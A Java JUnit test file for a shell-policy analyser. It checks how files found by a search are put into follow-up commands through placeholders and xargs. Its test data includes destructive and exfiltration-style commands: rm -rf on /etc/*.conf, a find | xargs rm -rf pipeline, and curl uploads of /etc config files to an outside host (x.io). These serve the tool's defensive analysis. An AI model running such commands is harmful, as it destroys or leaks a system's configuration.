package dev.lighthouse.policy.facts;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lighthouse.shell.ShellAnalyser;
import dev.lighthouse.shell.ShellContext;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The found files stand in for a search command's placeholders, and for nothing else. */
class FoundFilesTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        .        | *.tmp        | ./*.tmp
        ./       | *.tmp        | ./*.tmp
        /        | *.conf       | /*.conf
        /home/u  | src/*.pem    | /home/u/*.pem
        /etc     | ''           | /etc
        """)
    void below_narrowsTheStartByTheLastPartOfTheName(String start, String name, String found) {
        assertThat(FoundFiles.below(start, name.isEmpty() ? Optional.empty() : Optional.of(name)))
                .isEqualTo(found);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        rm -rf '{}'                  | false | rm -rf '/etc/*.conf' '/usr/*.conf'
        curl -F 'f=@{}' https://x.io | false | curl -F 'f=@/etc/*.conf' https://x.io
        cp '{}' '{}.bak'             | false | cp '/etc/*.conf' '/usr/*.conf' '/etc/*.conf.bak'
        mv '{.}' '{//}'              | false | mv '/etc/*.conf' '/usr/*.conf' '/etc'
        rm -f                        | true  | rm -f '/etc/*.conf' '/usr/*.conf'
        rm -f                        | false | rm -f
        """)
    void into_replacesPlaceholdersOrAppendsWhenTheSearchSaysSo(String command, boolean implicit, String line) {
        assertThat(new FoundFiles(List.of("/etc/*.conf", "/usr/*.conf"), implicit).into(command))
                .isEqualTo(line);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        rm -rf '{}'
        rm -f
        """)
    void into_leavesTheCommandAsItIs_whenNothingWasFoundOrAFileCannotBeQuoted(String command) {
        assertThat(new FoundFiles(List.of(), true).into(command)).isEqualTo(command);
        assertThat(new FoundFiles(List.of("/tmp/it's"), true).into(command)).isEqualTo(command);
    }

    /**
     * A command that takes its arguments from its input ({@code find /etc -name '*.conf' | xargs rm -rf}) gets the
     * found files at its end, or at its {@code -I {}} placeholder; its own words are quoted as a shell reads them back.
     */
    @ParameterizedTest(name = "{0} -> {2}")
    @CsvSource(delimiterString = "=>", textBlock = """
        xargs rm -rf                 => rm    => rm -rf '/etc/*.conf' '/usr/*.conf'
        xargs /bin/rm -f             => rm    => /bin/rm -f '/etc/*.conf' '/usr/*.conf'
        xargs -I {} cp {} {}.bak     => cp    => cp '/etc/*.conf' '/usr/*.conf' '/etc/*.conf.bak'
        xargs rm -f "a b"            => rm    => rm -f 'a b' '/etc/*.conf' '/usr/*.conf'
        xargs rm -f "it's"           => rm    => rm -f 'it'\\''s' '/etc/*.conf' '/usr/*.conf'
        xargs curl -F f=@x.io:80/a,b => curl  => curl -F f=@x.io:80/a,b '/etc/*.conf' '/usr/*.conf'
        xargs chmod u+x%             => chmod => chmod u+x% '/etc/*.conf' '/usr/*.conf'
        """)
    void fedTo_handsTheFoundFilesToACommandThatReadsItsArgumentsFromItsInput(String line, String program, String fed) {
        var command = ShellAnalyser.analyse(line, ShellContext.of("/home/dev/app", "/home/dev"))
                .commandsNamed(program)
                .getFirst();

        assertThat(new FoundFiles(List.of("/etc/*.conf", "/usr/*.conf"), false).fedTo(command))
                .isEqualTo(fed);
    }
}
